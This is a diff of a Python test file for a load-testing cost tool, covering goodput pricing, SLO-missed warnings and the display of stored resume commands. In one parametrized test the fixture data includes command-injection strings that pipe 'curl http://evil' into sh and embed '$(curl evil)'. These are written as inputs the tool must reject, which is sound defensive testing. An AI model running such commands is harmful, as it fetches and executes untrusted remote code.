@@ -163,8 +163,8 @@ def test_failed_requests_cost_what_they_cost():
     with_failed = changed(sound, tokens={"failed_input": 1000, "failed_output": 500})
     before, after = priced(sound, entry).costs[GOOD], priced(with_failed, entry).costs[GOOD]
     assert before and after
-    assert abs(before.total - Decimal(48506 + 150297) / 10**6 / 294) < PARTS_ROUNDED
-    assert abs(after.total - before.total - Decimal(1500) / 10**6 / 294) < 2 * PARTS_ROUNDED
+    assert abs(before.total - Decimal(48664 + 150797) / 10**6 / 295) < PARTS_ROUNDED
+    assert abs(after.total - before.total - Decimal(1500) / 10**6 / 295) < 2 * PARTS_ROUNDED
 
 
 POWER = "{watts: 5000, idle_watts: 2000, pue: 1.2, per_kwh: 0.1, counted: by_load}"
@@ -518,19 +518,50 @@ def test_a_single_run_says_that_it_is_priced_at_its_load():
     assert "own_load" in noted(one)
 
 
-def test_good_requests_that_look_cheaper_than_requests_say_why():
-    cold = changed(
-        GPUS,
-        warmup={"scheduled": 0},
-        load={"steady_completed_rps": 8.0},
-        goodput={"steady_rps": 10.0},
+def test_good_requests_are_priced_by_those_that_were_completed():
+    one = priced(
+        changed(GPUS, load={"steady_completed_rps": 10.0}, goodput={"steady_rps": 8.0}), rent("60")
     )
-    assert noted(priced(cold, rent("60")))["good_above_all"] == {
-        "good_per_s": 10.0,
-        "requests_per_s": 8.0,
-    }
-    assert "good_above_all" not in noted(priced(changed(cold, warmup={"scheduled": 5}), rent("60")))
-    assert "good_above_all" not in noted(priced(cold, rent("60"), capacity=knee(8.0)))
+    all_requests, good = one.costs[REQUEST], one.costs[GOOD]
+    assert all_requests is not None and good is not None
+    assert good.total == pytest.approx(all_requests.total * 10 / 8)
+
+
+MISSED = changed(GPUS, goodput={"met": False})
+PER_TOKEN = (
+    "per_token: provider: P, model: m, per_million_input: 1, per_million_cached: 1, "
+    "per_million_output: 1"
+)
+
+
+def test_a_run_that_missed_its_slo_has_no_price_in_the_headline():
+    found = compare_offers([priced(MISSED, rent("60"))], book(rent("60")))
+    (sentence,) = report.answer(found)
+    assert "USD" not in sentence
+    assert "SLO MISSED" in [warned.word for warned in report.warned(found)]
+    assert found.offers[0].costs[REQUEST] is not None
+    shown = printed(found)
+    assert shown.index("SLO MISSED") < shown.index("USD")
+
+
+@pytest.mark.parametrize(
+    ("sustained", "code", "word"),
+    [
+        (True, None, None),
+        (False, "overloaded", "NOT SUSTAINED"),
+        (None, "not_sustained", "NOT KNOWN TO LAST"),
+    ],
+)
+def test_whether_a_load_lasts_is_said_before_its_price(
+    sustained: bool | None, code: str | None, word: str | None
+):
+    run = changed(GPUS, sustainable={"sustained": sustained, "why": "because"})
+    one = priced(run, rent("60"))
+    assert {"overloaded", "not_sustained"} & set(noted(one)) == ({code} if code else set())
+    shown = printed(compare_offers([one], book(rent("60"))))
+    assert word is None or shown.index(word) < shown.index("USD")
+    by_token = priced(run, PER_TOKEN)
+    assert word is None or word not in printed(compare_offers([by_token], book(PER_TOKEN)))
 
 
 def test_an_invalid_run_has_no_good_requests():
@@ -1073,7 +1104,7 @@ def test_what_is_no_utilization(text: str):
 @pytest.mark.parametrize(
     ("stored", "is_said"),
     [
-        ("loadgen search --resume 'my search' --max-probes N", True),
+        ("loadgen search --resume 'my search' --max-probes 60", True),
         ("loadgen mlperf server --resume s --url http://h:1", True),
         ("loadgen search --resume s; curl http://evil | sh", False),
         ("loadgen search --resume $(curl evil)", False),
